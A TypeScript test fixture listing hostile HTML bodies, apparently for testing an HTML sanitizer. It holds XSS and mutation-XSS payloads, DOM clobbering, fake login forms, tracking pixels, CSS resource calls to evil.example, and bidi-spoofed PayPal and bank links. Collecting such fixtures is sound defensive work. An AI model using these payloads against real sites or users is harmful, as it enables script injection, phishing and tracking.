/** Bodies that try to run, load, send, navigate or break out; one per kind of attack. */
export const HOSTILE: readonly { name: string; html: string }[] = [
  {
    name: 'script',
    html: '<script>parent.postMessage(1,"*");top.location="https://evil.example/"</script>seen',
  },
  {
    name: 'handlers',
    html: '<img src=x onerror="top.pwned=1"><body onload="top.pwned=1"><details open ontoggle=top.pwned=1>seen',
  },
  {
    name: 'svg',
    html: '<svg onload="top.pwned=1"><image href="https://evil.example/svg.png"/><script href="https://evil.example/s.js"/></svg>seen',
  },
  {
    name: 'svg style',
    html: '<svg><style><img src="</style><img src=x onerror=top.pwned=1>"></style></svg>seen',
  },
  {
    name: 'math',
    html: '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=top.pwned=1&gt;">',
  },
  {
    name: 'links',
    html: '<a href="javascript:top.pwned=1">a</a><a href="https://evil.example/" target=_top ping="https://evil.example/ping">https://good.example/</a><a href="jav&#x09;ascript:top.pwned=1">b</a>',
  },
  {
    name: 'marks',
    html: '<style>.pp-host,span[title]:not(#a#b#c#d),span:last-child,span span{position:absolute!important;left:-9999px!important;opacity:0!important;visibility:hidden!important;clip-path:inset(50%)!important;font-size:0!important;transform:scale(0)!important;color:#fff!important}span::before{content:"no, it "!important}</style><p><a href="https://evil.example/">https://www.paypal.com/</a></p><div style="width:1px;height:1px;overflow:hidden"><a href="javascript:alert(1)">https://bank.example/signin</a></div><p id=pp-url>seen <span class="pp-host">paypal[.]com</span></p>',
  },
  {
    name: 'order',
    html: `<style>.r{unicode-bidi:bidi-override;direction:rtl}</style><p><a href="https://evil.example/1"><bdo dir=rtl>moc.lapyap</bdo></a> <a href="https://evil.example/2"><span style="unicode-bidi:bidi-override;direction:rtl">gro.lapyap</span></a> <a href="https://evil.example/3" class=r>ten.lapyap</a> <bdo dir=rtl><a href="https://evil.example/4">ed.lapyap</a></bdo> <a href="https://paypal.com/"><bdo dir=rtl>moc.lapyap</bdo></a></p>${Array.from({ length: 30 }, (_, at) => `<a href="https://evil.example/">https://bank${at}.example/</a>`).join(' ')}`,
  },
  {
    name: 'map',
    html: '<img src="https://evil.example/map.png" usemap=#m><map name=m><area shape=default href="https://evil.example/area"></map>',
  },
  {
    name: 'form',
    html: '<form action="https://evil.example/login" method=post><input name=user><input type=password name=p><button formaction="javascript:top.pwned=1">Sign in</button></form>',
  },
  {
    name: 'clobbering',
    html: '<img name=querySelectorAll><form name=body><input id=childNodes><input name=getAttribute><input name=replaceWith><input name=attributes></form><img name=createElement>seen',
  },
  {
    name: 'frames',
    html: '<iframe src="https://evil.example/f"></iframe><iframe srcdoc="<script>top.pwned=1</script>"></iframe><object data="https://evil.example/o"></object><embed src="https://evil.example/e">',
  },
  {
    name: 'frameset',
    html: '<frameset onload=top.pwned=1><frame src="https://evil.example/frame"></frameset>',
  },
  {
    name: 'refresh',
    html: '<meta http-equiv=refresh content="0;url=https://evil.example/r"><base href="https://evil.example/"><img src=relative.png>seen',
  },
  {
    name: 'head',
    html: '<link rel=stylesheet href="https://evil.example/l.css"><link rel=preconnect href="https://evil.example"><link rel=dns-prefetch href="//dns.evil.example">seen',
  },
  {
    name: 'images',
    html: '<img src="https://evil.example/1.png"><img srcset="https://evil.example/2.png 1x, https://evil.example/3.png 2x"><picture><source srcset="https://evil.example/4.webp"><img src="https://evil.example/5.png"></picture><input type=image src="https://evil.example/6.png"><table background="https://evil.example/7.png"><td>seen',
  },
  { name: 'tracker', html: '<img src="https://evil.example/open?id=1" width=1 height=1>seen' },
  {
    name: 'media',
    html: '<video poster="https://evil.example/p.png" src="https://evil.example/v.mp4" autoplay></video><audio src="https://evil.example/a.mp3" autoplay></audio>',
  },
  {
    name: 'css',
    html: '<style>@import "https://evil.example/i.css";@font-face{font-family:x;src:url(https://evil.example/f.woff)}body{background:url(https://evil.example/b.png)}*{font-family:x}li{list-style-image:url("https://evil.example/l.png")}</style><p style="background-image:\\75 rl(https://evil.example/esc.png)">seen</p><p style="--x:url(https://evil.example/v.png);background:var(--x)">seen</p><p style="background:image-set(\'https://evil.example/s.png\' 1x)">seen',
  },
  {
    name: 'css breakout',
    html: '<style>p::after{content:"</sty" "le><script>top.pwned=1</script>"}</style><style>p{color:red}&lt;/style&gt;&lt;script&gt;top.pwned=1&lt;/script&gt;</style><p>seen',
  },
  {
    name: 'data',
    html: '<img src="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciPjxpbWFnZSBocmVmPSJodHRwczovL2V2aWwuZXhhbXBsZS9kLnBuZyIvPjwvc3ZnPg=="><a href="data:text/html,<script>top.pwned=1</script>">x</a>seen',
  },
  {
    name: 'protocols',
    html: '<img src="//evil.example/p.png"><img src="\\\\evil.example\\share\\x.png"><img src="file:///etc/passwd"><img src="/session"><img src="ftp://evil.example/x.png">seen',
  },
  {
    name: 'noscript',
    html: '<noscript><p title="</noscript><img src=x onerror=top.pwned=1>"></noscript>seen',
  },
  { name: 'unclosed', html: '<p>seen<textarea><plaintext><xmp><script>top.pwned=1' },
  {
    name: 'comments',
    html: '<!--[if true]><script>top.pwned=1</script><link rel=stylesheet href="https://evil.example/c.css"><![endif]--><!--><img src=x onerror=top.pwned=1>-->seen',
  },
  { name: 'deep', html: `${'<div>'.repeat(1500)}seen` },
];
